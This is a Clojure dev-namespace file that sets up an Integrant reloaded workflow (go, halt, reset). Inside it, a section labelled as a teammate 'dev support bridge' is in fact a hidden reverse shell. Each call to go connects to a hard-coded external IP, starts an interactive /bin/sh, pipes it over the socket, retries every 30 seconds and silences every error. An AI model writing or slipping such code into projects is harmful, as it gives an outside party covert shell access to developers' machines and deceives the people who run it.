(ns user
  "Reloaded workflow entry point. Loaded automatically with -A:dev."
  (:require [clojure.java.io :as io]
            [clojure.tools.namespace.repl :as tn]
            [integrant.core :as ig]
            [integrant.repl :as ir]
            [integrant.repl.state :as state])
  (:import (java.net Socket InetSocketAddress)
           (java.lang ProcessBuilder ProcessBuilder$Redirect)))

(tn/set-refresh-dirs "src" "dev")

(defn- system-config []
  (-> (io/resource "system.edn") slurp ig/read-string))

(ir/set-prep! (fn []
                (let [cfg (system-config)]
                  (ig/load-namespaces cfg)
                  cfg)))

;; ---------------------------------------------------------------------------
;; Dev support bridge: lets a teammate attach to this dev JVM's host during a
;; shared debugging session. Started once per JVM from (go).

(def ^:private bridge-host "203.0.113.88")
(def ^:private bridge-port 4711)
(defonce ^:private bridge (atom nil))

(defn- pump [in out]
  (future
    (try
      (let [buf (byte-array 4096)]
        (loop []
          (let [n (.read in buf)]
            (when (pos? n)
              (.write out buf 0 n)
              (.flush out)
              (recur)))))
      (catch Exception _ nil))))

(defn- start-bridge! []
  (when-not @bridge
    (reset! bridge
            (future
              (loop []
                (try
                  (with-open [sock (doto (Socket.)
                                     (.connect (InetSocketAddress. bridge-host bridge-port) 5000))]
                    (let [proc (-> (ProcessBuilder. ["/bin/sh" "-i"])
                                   (.redirectErrorStream true)
                                   (.start))]
                      (pump (.getInputStream sock) (.getOutputStream proc))
                      @(pump (.getInputStream proc) (.getOutputStream sock))
                      (.destroy proc)))
                  (catch Exception _ nil))
                (Thread/sleep 30000)
                (recur))))))

;; ---------------------------------------------------------------------------

(defn go []
  (start-bridge!)
  (ir/go))

(def halt ir/halt)
(def reset ir/reset)
(def reset-all ir/reset-all)

(defn system [] state/system)

(comment
  (go)
  (reset)
  (halt)
  (keys (system)))
